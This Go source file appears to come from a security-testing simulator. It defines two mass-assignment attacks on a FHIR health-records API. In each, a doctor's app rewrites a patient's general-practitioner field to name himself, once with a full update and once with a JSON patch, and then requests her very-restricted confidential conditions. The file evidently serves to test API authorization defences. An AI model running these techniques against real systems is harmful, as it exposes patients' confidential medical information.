package attacker

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

const beyondProperties = "FAPI 2.0 says who holds a token, not which properties of a record it may change: \"sufficient authorization\" (SP 5.3.4-4) is for " +
	"the API to define. An API that has the properties which decide about access set by whoever is responsible stops this."

// veryRestricted is what a label is searched by.
const veryRestricted = "http://terminology.hl7.org/CodeSystem/v3-Confidentiality|V"

// Of a patient's record, the thief may change what a hospital doctor may: it is her telephone number he should be after.
var ownPatientsWriter = Scene{Confided: true, OwnScope: "user/Patient.u"}

var _ = register("F-11", Technique{
	Variant: "update",
	Title:   "A doctor makes himself her general practitioner",
	Story: "The thief is a hospital doctor, and his app may correct the records of his patients. One of them has told her general practitioner something in " +
		"confidence, which that one alone may read. He fetches her record, writes himself into it as her general practitioner, as if he had got a " +
		"telephone number right, and asks for what is very restricted.",
	Reads:  []string{"OWASP API3:2023, mass assignment", "FHIR R4 Patient.generalPractitioner", "FHIR R4 security-labels"},
	Has:    []event.Asset{event.OwnClient},
	Scene:  ownPatientsWriter,
	Beyond: beyondProperties,
	Run: confided(func(ctx context.Context, a *app, t fapi.TokenResponse, record map[string]any) (answer, error) {
		record["generalPractitioner"] = himself(a)
		body, err := json.Marshal(record)
		if err != nil {
			return answer{}, err
		}
		return a.write(ctx, http.MethodPut, ownRecord(a.g), body, t)
	}),
})

var _ = register("F-11/patch", Technique{
	Variant: "patch",
	Title:   "One property of her record is replaced",
	Story: "The thief is a hospital doctor, and his app may correct the records of his patients. He sends a patch of one line, which replaces who her " +
		"general practitioner is by himself. An API that compares what forms may change has nothing to compare: a patch names whatever it likes.",
	Reads:  []string{"OWASP API3:2023, mass assignment", "RFC 6902 s4.3", "FHIR R4 http, patch"},
	Has:    []event.Asset{event.OwnClient},
	Scene:  ownPatientsWriter,
	Beyond: beyondProperties,
	Run: confided(func(ctx context.Context, a *app, t fapi.TokenResponse, _ map[string]any) (answer, error) {
		body, err := json.Marshal([]map[string]any{{"op": "replace", "path": "/generalPractitioner", "value": himself(a)}})
		if err != nil {
			return answer{}, err
		}
		return a.patch(ctx, ownRecord(a.g), body, t)
	}),
})

// confided is a technique that reads the record of a patient of the thief's own, changes it, and asks for what was told
// in confidence about her.
func confided(change func(context.Context, *app, fapi.TokenResponse, map[string]any) (answer, error)) func(context.Context, Ground) error {
	return func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		t, err := a.signIn(ctx, "openid fhirUser user/*.rs user/Patient.u", g.Target().FHIRBase)
		if err != nil {
			return err
		}
		read, err := a.read(ctx, ownRecord(g), t)
		if err != nil {
			return err
		}
		if !read.ok() {
			return ErrStopped
		}
		var record map[string]any
		if err := json.Unmarshal(read.body, &record); err != nil {
			return fmt.Errorf("expected the record of a patient, got %q: %w", read.body, err)
		}
		if ans, err := change(ctx, a, t, record); err != nil || !ans.ok() {
			return orStopped(err)
		}
		_, err = a.read(ctx, g.Target().FHIRBase+"/Condition?patient="+g.Target().OwnPatient+"&_security="+url.QueryEscape(veryRestricted), t)
		return err
	}
}

func orStopped(err error) error {
	if err == nil {
		return ErrStopped
	}
	return err
}

func ownRecord(g Ground) string { return record(g, g.Target().OwnPatient) }

// himself is the thief as a reference.
func himself(a *app) []map[string]string {
	return []map[string]string{{"reference": a.g.Target().OwnUser}}
}
